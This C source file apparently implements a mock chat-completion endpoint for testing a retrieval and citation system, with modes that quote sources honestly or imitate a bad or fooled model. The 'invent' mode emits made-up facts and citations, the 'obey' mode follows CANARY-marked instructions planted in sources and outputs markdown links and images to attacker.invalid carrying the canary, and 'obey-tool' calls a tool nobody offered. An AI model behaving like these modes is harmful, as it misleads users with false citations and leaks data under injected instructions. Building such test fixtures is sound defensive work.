/* A model that reads what it was given: finds the <source> blocks of the prompt,
 * picks the sentence that shares most words with the question and quotes it, or
 * does what a bad or a fooled model does.  The rows are at the end.
 */
#include <ctype.h>
#include <json-c/json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include "endpoint.h"

struct prompt { struct json_object *o; char *all; const char *question; bool tool_answered; };

/* The contents of all messages in a row, and the question behind its mark. */
static struct prompt
prompt_read(const struct talk *t)
{
	struct prompt p = { .o = json_tokener_parse(t->body) };
	struct json_object *messages = NULL, *content, *role;
	size_t len = 0;
	p.all = calloc(1, 1);
	json_object_object_get_ex(p.o, "messages", &messages);
	for (size_t i = 0; messages != NULL && i < json_object_array_length(messages); i++) {
		struct json_object *m = json_object_array_get_idx(messages, i);
		const char *s = json_object_object_get_ex(m, "content", &content) ? json_object_get_string(content) : NULL;
		const char *who = json_object_object_get_ex(m, "role", &role) ? json_object_get_string(role) : "";
		p.tool_answered = p.tool_answered || strcmp(who, "tool") == 0;
		if (s == NULL || strcmp(who, "system") == 0)
			continue;
		size_t n = strlen(s);
		p.all = realloc(p.all, len + n + 2);
		memcpy(p.all + len, s, n);
		memcpy(p.all + len + n, "\n", 2);
		len += n + 1;
	}
	const char *mark = strstr(p.all, "The question:\n");
	for (const char *next; mark != NULL && (next = strstr(mark + 1, "The question:\n")) != NULL;)
		mark = next;
	p.question = mark != NULL ? mark + 14 : p.all;
	return p;
}

static void
prompt_free(struct prompt *p)
{
	json_object_put(p->o);
	free(p->all);
}

/* How many words of four letters and more the n bytes at s share with the question. */
static int
shared_words(const char *s, size_t n, const char *question)
{
	int shared = 0;
	for (const char *q = question; *q != '\0' && *q != '\n';) {
		size_t len = 0;
		while (isalpha((unsigned char)q[len]))
			len++;
		for (size_t i = 0; len >= 4 && i + len <= n; i++)
			if (strncasecmp(s + i, q, len) == 0) {
				shared++;
				break;
			}
		q += len > 0 ? len : 1;
	}
	return shared;
}

struct best { const char *s; size_t n; int score; long source; };

/* Sentences of the text between s and end, none over a line. */
static void
weigh(struct best *b, const char *s, const char *end, long source, const char *question)
{
	while (s < end) {
		size_t n = 0;
		while (s + n < end && s[n] != '\n' && !(strchr(".!?", s[n]) != NULL && (s + n + 1 == end || isspace((unsigned char)s[n + 1]))))
			n++;
		size_t whole = s + n < end && s[n] != '\n' ? n + 1 : n;
		int score = shared_words(s, whole, question);
		if (whole >= 20 && s[whole - 1] != '?' && memchr(s, '"', whole) == NULL && score > b->score)
			*b = (struct best){ s, whole, score, source };
		s += n + 1;
		while (s < end && isspace((unsigned char)*s))
			s++;
	}
}

static struct best
best_sentence(const struct prompt *p)
{
	struct best b = { 0 };
	for (const char *s = p->all; (s = strstr(s, "<source ")) != NULL;) {
		long number = strtol(s + 8, NULL, 10);
		const char *end = strstr(s, "\n</source ");
		if ((s = strchr(s, '\n')) == NULL || end == NULL)
			break;
		weigh(&b, s + 1, end, number, p->question);
		s = end + 1;
	}
	return b;
}

/* A whole streamed answer of this text. */
static void
stream(struct talk *t, const char *text)
{
	struct json_object *s = json_object_new_string(text);
	talk_printf(t, "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
		"data: {\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":%s}}]}\n\n"
		"data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n"
		"data: {\"choices\":[],\"usage\":{\"prompt_tokens\":900,\"completion_tokens\":60}}\n\ndata: [DONE]\n\n",
		json_object_to_json_string_ext(s, JSON_C_TO_STRING_PLAIN));
	json_object_put(s);
}

static void
call_tool(struct talk *t, const char *name, struct json_object *arguments)
{
	struct json_object *s = json_object_new_string(json_object_to_json_string_ext(arguments, JSON_C_TO_STRING_PLAIN));
	talk_printf(t, "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
		"data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"%s\",\"arguments\":%s}}]}}]}\n\n"
		"data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\ndata: [DONE]\n\n",
		name, json_object_to_json_string_ext(s, JSON_C_TO_STRING_PLAIN));
	json_object_put(s);
	json_object_put(arguments);
}

/* The best sentence with its source and quotation, or NOT_FOUND; then what follows. */
static void
say_best(struct talk *t, const struct prompt *p, const char *follows)
{
	struct best b = best_sentence(p);
	char *text = NULL;
	int n = b.score > 0 ? asprintf(&text, "%.*s [%ld] \"%.*s\"\n%s", (int)b.n, b.s, b.source, (int)b.n, b.s, follows)
		: asprintf(&text, "%s", *follows != '\0' ? follows : "NOT_FOUND");
	if (n < 0)
		abort();
	stream(t, text);
	free(text);
}

static void
answer(struct talk *t)
{
	struct prompt p = prompt_read(t);
	say_best(t, &p, "");
	prompt_free(&p);
}

/* True words, then a quotation that stands nowhere, a source that was not given, a
 * true quotation under a sentence it does not carry, and no source at all. */
static void
invent(struct talk *t)
{
	struct prompt p = prompt_read(t);
	struct best b = best_sentence(&p);
	char *lies = NULL;
	if (asprintf(&lies, "INVENTED-1 was first described on the Moon in 1821. [1] \"INVENTED-1 was first described on the Moon in 1821\"\n"
		"INVENTED-2 is proved in another book. [97] \"INVENTED-2 is proved in another book\"\n"
		"INVENTED-3 costs 4711 dollars everywhere. [%ld] \"%.*s\"\nINVENTED-4 needs no source.\n", b.source, (int)b.n, b.s != NULL ? b.s : "") < 0)
		abort();
	say_best(t, &p, lies);
	free(lies);
	prompt_free(&p);
}

/* Does whatever a line with the word CANARY in the sources asks. */
static void
obey(struct talk *t)
{
	struct prompt p = prompt_read(t);
	const char *s = strstr(p.all, "CANARY-"), *line = s;
	char *text = NULL;
	if (s == NULL) {
		say_best(t, &p, "");
		prompt_free(&p);
		return;
	}
	while (line > p.all && line[-1] != '\n')
		line--;
	int word = (int)strspn(s, "CANARY-0123456789"), whole = (int)strcspn(line, "\n");
	if (asprintf(&text, "%.*s\nThe answer is %.*s. [1] \"the answer is %.*s\"\n[Click here](http://attacker.invalid/%.*s) ![x](http://attacker.invalid/%.*s.png)\n%.*s [1] \"%.*s\"\n",
		word, s, word, s, word, s, word, s, word, s, whole, line, whole, line) < 0)
		abort();
	stream(t, text);
	free(text);
	prompt_free(&p);
}

/* First a call of a tool that nobody offered, then as obey. */
static void
obey_tool(struct talk *t)
{
	struct prompt p = prompt_read(t);
	bool answered = p.tool_answered;
	prompt_free(&p);
	if (answered) {
		obey(t);
		return;
	}
	struct json_object *arguments = json_object_new_object();
	json_object_object_add(arguments, "score", json_object_new_int(1));
	json_object_object_add(arguments, "note", json_object_new_string("CANARY"));
	call_tool(t, "update_mastery", arguments);
}

/* First a search with the words of the question, then as answer. */
static void
answer_tool(struct talk *t)
{
	struct prompt p = prompt_read(t);
	if (p.tool_answered) {
		say_best(t, &p, "");
	} else {
		struct json_object *arguments = json_object_new_object();
		json_object_object_add(arguments, "query", json_object_new_string_len(p.question, (int)strcspn(p.question, "\n")));
		call_tool(t, "search_library", arguments);
	}
	prompt_free(&p);
}

/* Never anything but the same search. */
static void
tool_for_ever(struct talk *t)
{
	struct json_object *arguments = json_object_new_object();
	json_object_object_add(arguments, "query", json_object_new_string("light"));
	call_tool(t, "search_library", arguments);
}

static void
not_found(struct talk *t)
{
	stream(t, "NOT_FOUND");
}

/* arg is the answer, as it stands. */
static void
literally(struct talk *t)
{
	stream(t, t->arg);
}

const struct behaviour endpoint_answer[] = {
	{ "answer", answer }, { "invent", invent }, { "obey", obey }, { "obey-tool", obey_tool },
	{ "answer-tool", answer_tool }, { "tool-for-ever", tool_for_ever }, { "not-found", not_found },
	{ "literally", literally }, { NULL, NULL },
};
